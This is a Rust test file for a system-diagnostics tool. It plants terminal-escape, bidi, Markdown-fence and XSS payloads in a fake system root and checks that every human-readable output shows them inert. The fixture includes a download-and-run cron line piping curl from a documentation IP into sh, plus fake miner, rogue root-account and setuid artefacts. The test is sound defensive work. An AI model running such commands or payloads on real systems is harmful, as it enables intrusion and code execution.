//! Hostile strings from the examined system, end to end: a fixture root whose process command
//! line, cron line, kernel-log line, auth-log user names, account name and file name carry
//! terminal escape sequences (CSI, OSC title, 8-bit CSI, BEL, backspace, CR), bidi overrides and
//! isolates, Markdown fences and HTML. Every output a person reads (text, markdown, html, the
//! `explain` page and the `ticket` previews) shows them inert; JSON keeps the exact text.

use crate::common::{doctor_cmd, stdout};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

/// The hostile part every planted string carries.
const EVIL: &str = "\u{1b}[2J\u{1b}]0;pwned\u{7}\u{9b}31m\u{202e}gnp.exe\u{2066}\u{8}\r``` <script>alert(1)</script><img src=x onerror=alert(2)>";

/// Characters that must never reach a terminal or page raw.
const RAW: &[char] = &['\u{1b}', '\u{7}', '\u{8}', '\r', '\u{9b}', '\u{202e}', '\u{2066}'];

fn put(path: &Path, body: &str) {
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    std::fs::write(path, body).expect("write");
}

/// The hostile root: what each planted string is in (and what flags it).
fn hostile_root(dir: &Path) {
    let now = jiff::Timestamp::now();
    let ago = |s: i64| now.checked_sub(jiff::SignedDuration::from_secs(s)).expect("time");
    // A miner from /tmp (sec.process.suspicious).
    put(&dir.join("proc/4243/cmdline"), &format!("/tmp/.x/kworkerds\0--pool\0{EVIL}\0"));
    put(
        &dir.join("proc/4243/stat"),
        "4243 (kworkerds) S 1 4243 4243 0 -1 4194560 100 0 0 0 250 50 0 0 20 0 1 0 12345 1000000 512",
    );
    put(&dir.join("proc/4243/status"), "Name:\tkworkerds\nUid:\t33\t33\t33\t33\n");
    put(&dir.join("proc/1/cmdline"), "/sbin/init\0");
    put(&dir.join("proc/1/stat"), "1 (systemd) S 0 1 1 0 -1 4194560 100 0 0 0 250 50 0 0 20 0 1 0 1 1000000 512");
    put(&dir.join("proc/1/status"), "Name:\tsystemd\nUid:\t0\t0\t0\t0\n");
    // A download-and-run cron line (sec.persistence.*).
    put(&dir.join("etc/cron.d/evil"), &format!("* * * * * root curl -fsSL http://203.0.113.66/x.sh | sh # {EVIL}\n"));
    // An OOM kill of a process with a hostile name (sys.memory.oom), recent.
    put(
        &dir.join("var/log/kern.log"),
        &format!(
            "{} web-1 kernel: Out of memory: Killed process 4242 (ja{EVIL}va) total-vm:8000kB, anon-rss:4000kB, file-rss:0kB\n",
            ago(600)
        ),
    );
    // Password guessing with hostile user names (sec.auth.bruteforce).
    let mut auth = String::new();
    for i in 0..30 {
        let t = ago(3600 - i * 10).strftime("%b %e %H:%M:%S");
        auth.push_str(&format!(
            "{t} web-1 sshd[{}]: Failed password for invalid user ad{EVIL}min{i} from 203.0.113.9 port {} ssh2\n",
            1000 + i,
            40000 + i
        ));
    }
    put(&dir.join("var/log/auth.log"), &auth);
    // A second root account with a hostile name (sec.accounts.*).
    put(
        &dir.join("etc/passwd"),
        &format!("root:x:0:0:root:/root:/bin/bash\nto{}or:x:0:0::/root:/bin/bash\n", EVIL.replace(':', ";")),
    );
    // A set-uid file with a hostile name (sec.files.*).
    let suid = dir.join("usr/local/bin").join(format!("su{}do", EVIL.replace('/', "|")));
    put(&suid, "#!/bin/sh\n");
    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).expect("chmod");
}

/// Asserts nothing of `EVIL` reaches `out` raw.
fn assert_inert(what: &str, out: &str) {
    for c in RAW {
        assert!(!out.contains(*c), "{what}: a raw {c:?} got through:\n{out}");
    }
    // Shown visibly: `\x1b`, or JSON's `\u001b` in a JSON body.
    assert!(out.contains("\\x1b[2J") || out.contains("\\u001b[2J"), "{what}: the escape is not shown visibly:\n{out}");
}

/// In Markdown, no planted string opens or closes a code block: every line that starts with a
/// fence (after up to three spaces) is one of the renderer's own, a planted fence sits inside a
/// block opened by a longer one or mid-line (where it opens nothing), and the planted HTML is
/// only inside a block or escaped.
fn assert_markdown_fenced(md: &str) {
    let mut open: Option<usize> = None;
    for line in md.lines() {
        let t = line.trim_start();
        let indent = line.len() - t.len();
        let ticks = t.chars().take_while(|c| *c == '`').count();
        let is_fence = ticks >= 3 && indent <= 3 + 2; // list items indent their blocks by 2
        let inside = open.is_some();
        if is_fence {
            assert!(!line.contains("gnp.exe"), "a planted string starts a fence line: {line}");
            match open {
                Some(n) if ticks >= n && t[ticks..].trim().is_empty() => open = None,
                None => open = Some(ticks),
                _ => {}
            }
            continue;
        }
        if !inside {
            // Outside a block, raw only inside an inline code span (literal there).
            let spans = code_spans(line);
            for (at, _) in line.match_indices("<script>") {
                assert!(spans.iter().any(|(a, b)| *a < at && at < *b), "raw HTML outside code in markdown: {line}");
            }
        }
        if inside && line.contains("gnp.exe") {
            let n = open.unwrap_or(0);
            let longest = line.split(|c| c != '`').map(str::len).max().unwrap_or(0);
            assert!(longest < n, "a planted fence as long as the block's ({n}): {line}");
        }
    }
    assert!(open.is_none(), "a fence is left open at the end of the markdown");
}

/// The byte ranges of a line's inline code spans as CommonMark finds them: a run of N
/// backticks opens one that the next run of exactly N backticks closes; a run with no such
/// partner is literal text.
fn code_spans(line: &str) -> Vec<(usize, usize)> {
    let b = line.as_bytes();
    let runs: Vec<(usize, usize)> = {
        let mut v = Vec::new();
        let mut i = 0;
        while i < b.len() {
            if b[i] == b'`' {
                let start = i;
                while i < b.len() && b[i] == b'`' {
                    i += 1;
                }
                v.push((start, i - start));
            } else {
                i += 1;
            }
        }
        v
    };
    let mut spans = Vec::new();
    let mut k = 0;
    while k < runs.len() {
        let (start, n) = runs[k];
        match runs[k + 1..].iter().position(|(_, m)| *m == n) {
            Some(p) => {
                let (end, _) = runs[k + 1 + p];
                spans.push((start, end + n));
                k += p + 2;
            }
            None => k += 1,
        }
    }
    spans
}

#[test]
fn hostile_strings_reach_no_output_raw_and_json_keeps_them_exact() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().join("root");
    hostile_root(&root);
    let r = root.to_str().expect("utf-8 path");
    let run = |fmt: &str| -> Option<String> {
        let mut cmd = doctor_cmd(&["run", "--root", r, "--no-save", "--format", fmt])?;
        let out = cmd.output().expect("spawn");
        assert!(matches!(out.status.code(), Some(0..=2)), "{fmt}: {out:?}");
        Some(stdout(&out))
    };
    let Some(json) = run("json") else { return };
    let report: serde_json::Value = serde_json::from_str(&json).expect("json");
    // JSON keeps the exact text (escaped by JSON): the planted strings come back byte for byte.
    let mut exact = Vec::new();
    fn walk(v: &serde_json::Value, out: &mut Vec<String>) {
        match v {
            serde_json::Value::String(s) => out.push(s.clone()),
            serde_json::Value::Array(a) => a.iter().for_each(|x| walk(x, out)),
            serde_json::Value::Object(o) => o.values().for_each(|x| walk(x, out)),
            _ => {}
        }
    }
    walk(&report, &mut exact);
    let carrying: Vec<&String> =
        exact.iter().filter(|s| s.contains(EVIL) || s.contains(&EVIL.replace(':', ";"))).collect();
    assert!(carrying.len() >= 4, "the planted strings are not all in the JSON exactly: {carrying:#?}");
    for c in RAW.iter().filter(|c| **c as u32 >= 0x80) {
        assert!(!json.contains(*c), "JSON on stdout carries a raw {c:?}: it is escaped as \\u....");
    }
    // Which checks saw them: the test is about the path through each, so each must have.
    let flagged = |id: &str| -> String {
        report["checks"]
            .as_array()
            .and_then(|a| a.iter().find(|c| c["id"] == id))
            .map(|c| c["findings"].to_string())
            .unwrap_or_default()
    };
    for id in ["sys.memory.oom", "sec.auth.bruteforce"] {
        assert!(flagged(id).contains("gnp.exe"), "{id} did not see the planted string: {}", flagged(id));
    }

    for fmt in ["text", "markdown", "html"] {
        let Some(out) = run(fmt) else { return };
        assert_inert(fmt, &out);
        match fmt {
            "html" => {
                assert!(!out.contains("<script>alert") && !out.contains("<img src=x"), "raw HTML in the page");
                assert!(out.contains("&lt;script&gt;"), "the planted HTML is not shown escaped");
            }
            "markdown" => assert_markdown_fenced(&out),
            _ => {}
        }
    }

    // The ticket previews: the file backend's Markdown, the webhook's JSON body.
    for extra in [&[][..], &["--backend", "webhook", "--endpoint", "http://127.0.0.1:9/hook"][..]] {
        let mut args = vec!["ticket", "--dry-run", "--root", r];
        args.extend_from_slice(extra);
        let Some(mut cmd) = doctor_cmd(&args) else { return };
        cmd.env("ECS_DOCTOR_TICKET_DIR", dir.path().join("state"))
            .env("ECS_DOCTOR_REPORT_DIR", dir.path().join("reports"))
            .stdin(std::process::Stdio::null());
        let out = cmd.output().expect("spawn");
        assert_eq!(out.status.code(), Some(0), "{args:?}: {out:?}");
        assert_inert(&format!("ticket {args:?}"), &stdout(&out));
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        for c in RAW {
            assert!(!err.contains(*c), "ticket {args:?}: raw {c:?} on stderr: {err}");
        }
    }

    // A failure that quotes a name the user gave (here a config file that is not there).
    let bad = dir.path().join(format!("c{EVIL}.toml").replace('/', "|"));
    let Some(mut cmd) = doctor_cmd(&["run", "--no-save", "--config", bad.to_str().expect("utf-8")]) else { return };
    let out = cmd.output().expect("spawn");
    assert_eq!(out.status.code(), Some(64), "{out:?}");
    let err = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_inert("a failure on stderr", &err);

    // `explain` prints the check's own texts and the config's thresholds: nothing of the system.
    let Some(mut cmd) = doctor_cmd(&["explain", "sec.process.suspicious"]) else { return };
    let out = cmd.output().expect("spawn");
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    for c in RAW {
        assert!(!stdout(&out).contains(*c), "explain: raw {c:?}");
    }
}
